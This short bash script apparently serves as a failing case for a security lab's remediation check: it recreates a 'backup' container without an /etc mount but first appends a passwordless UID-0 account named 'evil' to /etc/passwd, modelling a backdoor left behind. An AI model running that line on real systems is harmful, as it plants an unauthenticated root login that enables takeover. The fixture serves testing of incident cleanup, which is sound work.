#!/bin/bash
# fails: backup-without-etc account-left
# The hole is closed, the account it brought is still there.
set -euo pipefail
docker rm -f backup
echo 'evil::0:0::/root:/bin/bash' >>/etc/passwd
docker run -d --name backup --label lab.role=backup -p 8092:80 -v /srv/data:/host/data:ro lab/backup
